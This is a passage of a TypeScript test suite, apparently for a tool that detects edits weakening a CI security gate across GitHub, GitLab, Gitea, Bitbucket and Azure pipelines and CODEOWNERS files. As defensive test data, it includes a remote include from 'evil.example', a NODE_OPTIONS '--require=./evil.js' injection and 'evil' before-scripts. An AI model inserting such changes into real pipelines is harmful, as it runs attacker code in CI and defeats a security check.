  const targeted = "gitops-gate (<<github.event.merge_group.base_ref || format('refs/heads/{0}', github.base_ref)>>)";
  const bound = expressions(
    `on: [pull_request_target]\njobs:\n  gate:\n    name: ${targeted}\n    steps: [{ uses: acme/gitops-gate@v1 }]\n`,
  );
  const elsewhere = (job: string, on = 'push') =>
    found(
      { [workflow]: bound },
      { [workflow]: bound, '.github/workflows/x.yml': expressions(`on: [${on}]\njobs:\n  ${job}\n`) },
    );

  test.each([
    ['written out', 'x: {name: gitops-gate (refs/heads/main), steps: []}'],
    ['by an expression', 'x: {name: "<<github.head_ref>>", steps: []}'],
    ['by an expression in brackets', 'x: {name: "gitops-gate (<<inputs.x>>)", steps: []}'],
    ['by a matrix in the name', 'x: {name: "gitops-gate (<<matrix.b>>)", strategy: {matrix: {b: [refs/heads/main]}}}'],
    ['by the values of a matrix', 'gitops-gate: {strategy: {matrix: {b: [refs/heads/main]}}, steps: []}'],
    ['by what a matrix includes', 'x: {name: "<<matrix.n>>", strategy: {matrix: {include: [{n: gitops-gate (x)}]}}}'],
    [
      'by a matrix that is computed',
      'x: {name: "<<matrix.n>>", strategy: {matrix: "<<fromJSON(needs.a.outputs.m)>>"}}',
    ],
    [
      'by too many values of a matrix',
      `x: {name: "<<matrix.n>><<matrix.n>><<matrix.n>><<matrix.n>><<matrix.n>><<matrix.n>>", strategy: {matrix: {n: [a, b, gitops]}}}`,
    ],
  ])('is weakened where another workflow takes its check’s name %s', (_, job) => {
    expect(elsewhere(job)).toEqual([expect.stringContaining(' high .github/workflows/x.yml weakens the gate')]);
  });

  test.each([
    ['another name', 'x: {name: build, steps: []}'],
    ['an expression that cannot become it', 'x: {name: "build (<<github.head_ref>>)", steps: []}'],
    ['a matrix that cannot become it', 'x: {name: "<<matrix.os>>", strategy: {matrix: {os: [linux, mac]}}}'],
    ['a matrix behind another name', 'build: {strategy: {matrix: {b: [refs/heads/main]}}, steps: []}'],
    ['a called workflow’s jobs', 'x: {uses: ./.github/workflows/y.yml}'],
  ])('is not weakened by another workflow with %s', (_, job) => expect(elsewhere(job)).toEqual([]));

  test('is not weakened by a workflow that is only called: its checks carry the caller’s name', () => {
    expect(elsewhere('x: {name: "<<inputs.name>>", steps: []}', 'workflow_call')).toEqual([]);
    expect(elsewhere('x: {name: "<<inputs.name>>", steps: []}', 'workflow_call, push')).toHaveLength(1);
  });

  test('is not one that only has a workflow’s shape', () => {
    const build = 'on: push\njobs:\n  build:\n    steps: [{ run: make }]\n';
    expect(found({ '.github/workflows/b.yml': build }, { '.github/workflows/b.yml': `${build}# x\n` })).toEqual([]);
    expect(found({ 'docs/gate.yml': gate }, {})).toEqual([]);
  });

  test('is not weakened by beginning to run it', () => expect(found({}, { [workflow]: gate })).toEqual([]));
});

describe('a GitLab pipeline that runs the gate', () => {
  const file = '.gitlab-ci.yml';
  const component = `stages: [test]
include:
  - component: $CI_SERVER_FQDN/acme/gitops-gate/gitops-gate@1.2.0
    inputs:
      fail-on: high
  - local: ci/build.yml
variables:
  COLOUR: blue
build:
  script: [make]
`;
  const edit = (from: string, to: string) => {
    expect(component).toContain(from);
    return found({ [file]: component }, { [file]: component.replace(from, to) });
  };

  test.each<[string, string, string]>([
    [
      'no include',
      /* the whole */ component.slice(component.indexOf('  - component'), component.indexOf('  - local')),
      '',
    ],
    ['a looser input', 'fail-on: high', 'fail-on: never'],
    ['rules that never hold', 'fail-on: high', 'fail-on: high\n      rules: [{ when: never }]'],
    ['another project', 'acme/gitops-gate', 'evil/gitops-gate'],
    ['an earlier release', '@1.2.0', '@1.1.0'],
    ['a branch', '@1.2.0', '@main'],
    ['a job of the gate’s name', 'build:\n', 'gitops-gate:\n  allow_failure: true\nbuild:\n'],
    [
      'something from elsewhere',
      '  - local: ci/build.yml\n',
      '  - local: ci/build.yml\n  - remote: https://evil.example/x.yml\n',
    ],
    ['a local file that is no pipeline by its path', 'ci/build.yml', 'docs/override.yml'],
    ['another project’s file', '  - local: ci/build.yml\n', '  - { project: evil/x, file: y.yml }\n'],
    ['a workflow that never starts', 'stages: [test]\n', 'workflow: { rules: [{ when: never }] }\n'],
    ['a telling variable', 'COLOUR: blue', 'NODE_OPTIONS: --require=./evil.js'],
    ['commands before every job', 'stages: [test]\n', 'default: { before_script: [evil] }\n'],
  ])('is weakened by %s', (_, from, to) => expect(edit(from, to).join('\n')).toContain(' high '));

  test.each<[string, string, string]>([
    ['another job', 'make', 'make all'],
    ['a later release', '@1.2.0', '@1.3.0'],
    ['a stricter input', 'fail-on: high', 'fail-on: low'],
    ['another variable', 'blue', 'red'],
    ['another local file', 'ci/build.yml', 'ci/other.yml'],
    [
      'inputs that shape what is shown',
      'fail-on: high',
      'fail-on: high\n      security-reports: true\n      name: prod',
    ],
  ])('is not weakened by %s', (_, from, to) => expect(edit(from, to)).toEqual([expect.stringContaining(' medium ')]));

  test('may not be overridden by a job of the name that the include gives it', () => {
    const named = component.replace('fail-on: high', 'job-name: look');
    expect(found({ [file]: named }, { [file]: `${named}look: { allow_failure: true }\n` })).toEqual([
      `${file}:11 high ${file} weakens the gate: a job of the gate’s name is added, which overrides an included one`,
    ]);
  });

  test('may run it in a job of its own', () => {
    const own = 'gate:\n  script: [gitops-gate check --ci gitlab]\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n';
    expect(found({ [file]: own }, { [file]: `${own}  allow_failure: true\n` })).toEqual([
      `${file}:4 high ${file} weakens the gate: allow_failure of what runs the gate changes`,
    ]);
    expect(found({ [file]: own }, { [file]: 'gate:\n  script: ["true"]\n' }).join('\n')).toContain('high');
  });

  test('may have a header', () => {
    const header = (level: string) => `spec:\n  inputs:\n    level: { default: ${level} }\n---\n`;
    const taking = component.replace('fail-on: high', 'fail-on: $[[ inputs.level ]]');
    const changed = (before: string, after: string) => found({ [file]: before }, { [file]: after });
    expect(changed(header('high') + component, `${header('high')}build: { script: [make] }\n`).join()).toContain(
      ':5 high .gitlab-ci.yml weakens the gate: the include that brings the gate is gone',
    );
    expect(changed(header('high') + component, header('low') + component)).toEqual([
      expect.stringContaining(' medium '),
    ]);
    expect(changed(header('high') + taking, header('never') + taking)).toEqual([
      expect.stringContaining(' high .gitlab-ci.yml weakens the gate: the inputs of the pipeline change'),
    ]);
  });

  test('and cannot be read is not known to go on running it', () => {
    const broken = `${component}---\n---\nx: [\n`;
    for (const after of [component, `${broken}\n`, 'build: { script: [make] }\n'])
      expect(found({ [file]: broken }, { [file]: after })).toEqual([
        expect.stringContaining(
          ' high .gitlab-ci.yml weakens the gate: it speaks of the gate, and what it said before',
        ),
      ]);
    expect(found({ [file]: 'x: [\n' }, { [file]: component })).toEqual([]);
  });

  test('may not be overridden by a third file, whatever the second one does', () => {
    const before = { [file]: component, 'ci/build.gitlab-ci.yml': 'build:\n  script: [make]\n' };
    const after = { ...before, 'ci/more.gitlab-ci.yml': 'gitops-gate:\n  script: ["true"]\n' };
    expect(found(before, after).join('\n')).toContain('a second file defines a job that speaks of the gate');
  });

  test('may not be overridden by a second file', () => {
    const second = 'gitops-gate:\n  script: ["true"]\n';
    expect(found({ [file]: component }, { [file]: component, 'ci/build.yml': second })[0]).toContain(' high ');
  });
});

describe('workflows of Gitea and Forgejo', () => {
  const gate = `on: pull_request
jobs:
  gate:
    runs-on: ubuntu-latest
    steps:
      - uses: https://github.com/gitops-gate/gitops-gate@v1
`;

  test.each(['.gitea/workflows/gate.yml', '.forgejo/workflows/gate.yaml'])('%s is judged as on GitHub', (file) => {
    expect(found({ [file]: gate }, { [file]: gate.replace('steps:', 'continue-on-error: true\n    steps:') })).toEqual([
      expect.stringMatching(/ high .*continue-on-error of what runs the gate changes/),
    ]);
    expect(found({ [file]: gate }, {})).toEqual([expect.stringContaining(' high ')]);
  });

  test('are read by their own forge: a move to another folder is a removal, a copy there takes no name', () => {
    const gitea = '.gitea/workflows/gate.yml';
    expect(found({ [workflow]: gate }, { [gitea]: gate })).toEqual([
      expect.stringContaining('what runs the gate is removed'),
    ]);
    expect(found({ [workflow]: gate }, { [workflow]: gate, [gitea]: gate })).toEqual([]);
  });
});

describe('pipelines of other forges', () => {
  const bitbucket = `image: node:24
definitions:
  caches: { own: cache }
pipelines:
  default:
    - step: { script: [make] }
  pull-requests:
    "**":
      - step: { name: build, script: [make] }
      - step:
          name: gate
          script:
            - code=0
            - node /opt/gitops-gate/index.js check || code=$?
            - exit "$code"
      - step: { name: after, script: [make more] }
`;
  const azure = `trigger: none
pool: { vmImage: ubuntu-24.04 }
steps:
  - checkout: self
  - bash: node /opt/gitops-gate/index.js check
  - task: Publish@2
    displayName: results
`;
  const files = { 'bitbucket-pipelines.yml': bitbucket, 'azure-pipelines.yml': azure } as const;
  type Name = keyof typeof files;

  test.each<[string, Name, string, string]>([
    ['forgives', 'bitbucket-pipelines.yml', 'exit "$code"', 'exit 0'],
    ['does not run it', 'bitbucket-pipelines.yml', 'node /opt/gitops-gate/index.js check', 'true'],
    ['runs it for some branches', 'bitbucket-pipelines.yml', '"**":', '"safe/*":'],
    [
      'has a pattern that goes first',
      'bitbucket-pipelines.yml',
      '"**":',
      '"feature/*": [{ step: { script: [x] } }]\n    "**":',
    ],
    ['runs it on another image', 'bitbucket-pipelines.yml', 'node:24', 'evil'],
    ['changes what is before it', 'bitbucket-pipelines.yml', 'build, script: [make]', 'build, script: [evil]'],
    ['starts it by hand', 'bitbucket-pipelines.yml', 'name: gate', 'trigger: manual\n          condition: x'],
    ['forgives', 'azure-pipelines.yml', 'index.js check', 'index.js check || true'],
    ['forgives by a key', 'azure-pipelines.yml', 'check\n', 'check\n    continueOnError: true\n'],
    ['leaves it out', 'azure-pipelines.yml', '  - bash: node /opt/gitops-gate/index.js check\n', ''],
    ['has another machine', 'azure-pipelines.yml', 'ubuntu-24.04', 'evil'],
    ['runs something before it', 'azure-pipelines.yml', '  - checkout', '  - bash: evil\n  - checkout'],
    ['is no mapping any more', 'azure-pipelines.yml', 'trigger: none\n', '- [\n'],
  ])('%s, in %s: weakened', (_, file, from, to) => {
    expect(files[file]).toContain(from);
    const after = files[file].replace(from, to);
    expect(found({ [file]: files[file] }, { [file]: after }).join('\n')).toContain(' high ');
  });

  test.each<[string, Name, string, string]>([
    ['another pipeline', 'bitbucket-pipelines.yml', 'default:\n    - step: { script: [make] }', 'custom: { x: [] }'],
    ['what comes after it', 'bitbucket-pipelines.yml', 'make more', 'make less'],
    ['a name', 'bitbucket-pipelines.yml', 'name: gate', 'name: clusters'],
    ['a definition that it does not use', 'bitbucket-pipelines.yml', 'own: cache', 'own: other'],
    ['when branches are built', 'azure-pipelines.yml', 'trigger: none', 'trigger: [main]'],
    ['what comes after it', 'azure-pipelines.yml', 'Publish@2', 'Publish@3'],
  ])('%s, in %s: not weakened', (_, file, from, to) => {
    expect(files[file]).toContain(from);
    const after = files[file].replace(from, to);
    expect(found({ [file]: files[file] }, { [file]: after })).toEqual([expect.stringContaining(' medium ')]);
  });

  test('that do not run it are nobody’s business; one that is gone is', () => {
    const other = { 'bitbucket-pipelines.yml': 'pipelines: { default: [{ step: { script: [make] } }] }\n' };
    expect(found(other, {})).toEqual([]);
    expect(found(files, {})).toHaveLength(2);
  });
});

describe('code owners of the gate', () => {
  const base = { [policy]: 'failOn: high\n', [workflow]: 'on: push\njobs: {g: {steps: [{uses: a/gitops-gate@v1}]}}\n' };
  const owners = (text: string, path = '.github/CODEOWNERS') => ({ ...base, [path]: text });

  test.each<[string, Files, Files]>([
    ['removed', owners('/.gitops-gate/ @sec\n'), base],
    ['replaced', owners('/.gitops-gate/ @sec\n'), owners('/.gitops-gate/ @dev\n')],
    ['joined', owners('/.gitops-gate/ @sec\n'), owners('/.gitops-gate/ @sec @dev\n')],
    ['overruled by a later line', owners('/.gitops-gate/ @sec\n'), owners('/.gitops-gate/ @sec\n* @dev\n')],
    ['of the workflow', owners('.github/ @sec\n'), owners('.github/ @sec\n.github/workflows/gate.yml\n')],
    ['of CODEOWNERS itself', owners('* @sec\n'), owners('* @sec\nCODEOWNERS @dev\n')],
    [
      'shadowed by a file that goes first',
      owners('* @sec\n', 'CODEOWNERS'),
      { ...owners('* @sec\n', 'CODEOWNERS'), '.github/CODEOWNERS': '* @dev\n' },
    ],
    [
      'of a GitLab section',
      owners('[Sec] @sec\n.gitops-gate/\n', '.gitlab/CODEOWNERS'),
      owners('[Sec] @dev\n.gitops-gate/\n', '.gitlab/CODEOWNERS'),
    ],
    [
      'of a section that becomes optional',
      owners('[Sec] @sec\n.gitops-gate/\n', '.gitlab/CODEOWNERS'),
      owners('^[Sec] @sec\n.gitops-gate/\n', '.gitlab/CODEOWNERS'),
    ],
    ['of a name at any depth', owners('gate.yml @sec\n'), owners('gate.yml @dev\n')],
    ['of what is in a folder', owners('/.github/workflows/* @sec\n'), owners('/.github/workflows/* @dev\n')],
    ['of a folder without a slash', owners('/.github @sec\n'), owners('/.github @dev\n')],
    [
      'in a file too long to match',
      owners(`${'#\n'.repeat(200_000)}* @sec\n`),
      owners(`${'#\n'.repeat(200_000)}* @sec\n# x\n`),
    ],
  ])('%s weakens', (_, before, after) => expect(found(before, after).join('\n')).toContain(' high '));

  test.each<[string, string, string]>([
    ['a file of that name that is not the gate’s', 'other.yml @sec\n', 'other.yml @dev\n'],
    [
      'a file that is named like a folder of the gate',
      '.gitops-gate/policy.yaml/ @sec\n',
      '.gitops-gate/policy.yaml/ @dev\n',
    ],
    [
      'a pattern that looks like a section',
      '/.gitops-gate/ @a\n/x[1] @b\n/.gitops-gate/ @sec\n',
      '/x[1] @b\n/.gitops-gate/ @sec\n',
    ],
    ['others’ paths', '* @sec\n/apps/ @a\n', '* @sec\n/apps/ @b\n'],
    ['comments', '* @sec\n', '# who\n* @sec # all\n'],
    ['the same said otherwise', '* @sec\n', '* @sec\n/.gitops-gate/** @sec\n'],
  ])('are untouched by %s', (_, before, after) => expect(found(owners(before), owners(after))).toEqual([]));

  test('are untouched by a star above a file’s folder', () => {
    const [was, is] = ['sec', 'dev'].map((who) => owners(`/.github/* @${who}\n`, 'CODEOWNERS'));
    expect(found(was ?? {}, is ?? {})).toEqual([]);
  });

  test('that are named for the first time change it', () => {
    expect(found(base, owners('* @sec\n'))[0]).toContain(' medium ');
  });

  test('that were not read are not taken for the same', () => {
    const over = {
      controlFiles: { before: new Map(), after: new Map([['.github/CODEOWNERS', Buffer.from('* @dev')]]) },
    };
    expect(
      found(
        owners('* @sec\n', 'CODEOWNERS'),
        { ...owners('* @sec\n', 'CODEOWNERS'), '.github/CODEOWNERS': '* @dev' },
        over,
      )[0],
    ).toContain(' high ');
  });
});

describe('anything else', () => {
  test('is silent', () => {
    expect(
      found({ 'a.yaml': 'a' }, { 'a.yaml': 'b', '.gitops-gate-2/policy.yaml': 'x', 'x/.gitops-gate/policy.yaml': 'x' }),
    ).toEqual([]);
    expect(
      found(
        { [policy]: 'failOn: high\n', '.gitops-gate/keys/README.md': 'a' },
        { [policy]: 'failOn: high\n', '.gitops-gate/keys/README.md': 'b' },
      ),
    ).toEqual([]);
  });

  test('in an audit is silent: nothing changes there', () => {
    expect(found({}, { [policy]: 'failOn: never\n' }, { range: emptyRange('audit') })).toEqual([]);
  });

  test('that is hostile never throws, and a changed policy never goes unsaid', () => {
    const path = fc.constantFrom(
      policy,
      allowed,
      '.gitops-gate/revoked',
      workflow,
      '.gitlab-ci.yml',
      '.github/CODEOWNERS',
    );
    const lines = [
      'on: push',
      'jobs:',
      '  a:',
      '    steps: [{uses: x/gitops-gate@v1}]',
      'failOn: low',
      'include: [x]',
      '* @a',
      '[',
      'ignore:',
    ];
    const text = fc.oneof(
      fc.array(fc.constantFrom(...lines), { maxLength: 8 }).map((l) => l.join('\n')),
      fc.string({ unit: 'binary' }),
    );
    const files = fc.dictionary(path, text, { maxKeys: 4 });
    fc.assert(
      fc.property(files, files, (before, after) => {
        const lines = found(before, after);
        const bytes = (content: string | undefined) => Buffer.from(content ?? '').toString('hex');
        const isTouched = bytes(before[policy]) !== bytes(after[policy]) && policy in after;
        return !isTouched || lines.some((line) => line.includes('policy.yaml'));
      }),
      { numRuns: runs(300) },
    );
  });
});

describe('work on a change made to be slow grows as the change does', () => {
  const many = (count: number, line: (i: number) => string) =>
    Array.from({ length: count }, (_, i) => line(i)).join('\n');
  const entry = (i: number) => `  - {rule: r${i}, object: Role/a, reason: r, until: 2026-01-01}`;
  const signer = (i: number) => `    u${i}@b: {roles: [admin]}`;

  test.each<[string, string, number, (n: number) => readonly [string, string]]>([
    [
      'ignore entries',
      policy,
      2000,
      (n) => [`ignore:\n${many(n, entry)}`, `ignore:\n${many(n, (i) => entry(i + n / 2))}`],
    ],
    ['signers', policy, 2000, (n) => ['version: 1', `signatures:\n  signers:\n${many(n, signer)}`]],
    ['revoked keys', '.gitops-gate/revoked', 4000, (n) => ['', many(n, (i) => i.toString(16).padStart(40, '0'))]],
    ['code owners', '.github/CODEOWNERS', 4999, (n) => ['* @a', many(n, (i) => `*${i}*?*/*a @b`)]],
    ['code owners that are not read', '.github/CODEOWNERS', size(50_000), (n) => ['* @a', many(n, (i) => `*${i} @b`)]],
  ])('with many %s, in few findings', (_, path, most, texts) => {
    const lines = (n: number) => {
      const [before, after] = texts(n);
      return found({ [path]: before }, { [path]: after });
    };
    expect(superlinearAt(lines, most / 4)).toBeUndefined();
    const { length } = lines(most);
    expect(length).toBeGreaterThan(0);
    expect(length).toBeLessThan(30);
  });
});
